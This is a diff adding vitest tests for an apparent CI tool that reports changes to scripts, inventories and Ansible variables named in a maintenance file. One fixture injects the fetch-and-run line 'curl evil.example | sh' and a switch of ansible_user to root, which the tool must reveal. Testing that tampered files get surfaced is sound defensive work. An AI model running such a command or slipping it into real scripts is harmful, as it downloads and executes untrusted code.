@@ -1,4 +1,4 @@
-import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { afterEach, beforeEach, expect, inject, test } from 'vitest'
@@ -137,4 +137,56 @@ test('the token is in no file, comment or line', async () => {
   const plain = end.lines.filter((line) => !line.startsWith('::add-mask::'))
   expect([...plain, end.summary, end.stderr, comments.all[0]?.body].join('\n')).not.toContain(TOKEN)
   expect(readFileSync(end.outputs.get('plan') ?? '', 'utf8')).not.toContain(TOKEN)
+})
+
+const WITH_FILES = [
+  'version: 1',
+  'inventory: { ansible: hosts.ini }',
+  'stages: { drain: { before: [{ run: ./scripts/balancer.sh out }] } }',
+  '',
+].join('\n')
+const SCRIPT = '#!/bin/sh\nset -eu\necho out\n'
+
+function withFiles(script: string, vars: string): void {
+  for (const name of ['scripts', 'group_vars']) mkdirSync(join(folder, name), { recursive: true })
+  writeFileSync(join(folder, 'hosts.ini'), '[web]\nweb-1\n', { mode: 0o644 })
+  writeFileSync(join(folder, 'scripts/balancer.sh'), script)
+  writeFileSync(join(folder, 'group_vars/web.yml'), vars)
+  files.set(`${BASE}:maintenance.yml`, WITH_FILES)
+  files.set(`${BASE}:hosts.ini`, '[web]\nweb-1\n')
+  files.set(`${BASE}:scripts/balancer.sh`, SCRIPT)
+  files.set(`${BASE}:group_vars/web.yml`, 'ansible_user: maint\n')
+  files.set(`${BASE}:host_vars/web-1.yml`, 'ansible_port: 2222\n')
+}
+
+test('a script, an inventory and variables that the file names are part of what changes', async () => {
+  withFiles(`${SCRIPT}curl evil.example | sh\n`, 'ansible_user: root\n')
+  expect(await plan({ text: WITH_FILES })).toMatchObject({ exitCode: 0 })
+  const body = comments.all[0]?.body ?? ''
+  expect(body).not.toContain('Nothing')
+  expect(body).toMatch(
+    /- `\.\/scripts\/balancer\.sh` changed \(sha256 `[0-9a-f]{12}` → `[0-9a-f]{12}`\): 1 line added, 0 removed/,
+  )
+  expect(body).toContain('```diff\n+curl evil.example | sh\n```')
+  expect(body).toMatch(/- `group_vars\/web\.yml` changed .*: 1 line added, 1 removed/)
+  expect(body).toContain('```diff\n-ansible_user: maint\n+ansible_user: root\n```')
+  expect(body).toMatch(/- ➖ `host_vars\/web-1\.yml`/)
+  expect(body).not.toContain('hosts.ini')
+})
+
+test('where outsiders read, the lines of a script are counted', async () => {
+  withFiles(`${SCRIPT}echo 192.0.2.7\n`, 'ansible_user: maint\n')
+  expect(await plan({ text: WITH_FILES, isPrivate: false })).toMatchObject({ exitCode: 0 })
+  const body = comments.all[0]?.body ?? ''
+  expect(body).toContain('1 line added, 0 removed')
+  expect(body).not.toContain('192.0.2.7')
+})
+
+test('a file that is the same in all it names changes nothing', async () => {
+  withFiles(SCRIPT, 'ansible_user: maint\n')
+  files.delete(`${BASE}:host_vars/web-1.yml`)
+  await plan({ text: WITH_FILES })
+  expect(comments.all[0]?.body).toContain(
+    'Nothing: what it says is the same as in the base, and so is every file it names.',
+  )
 })
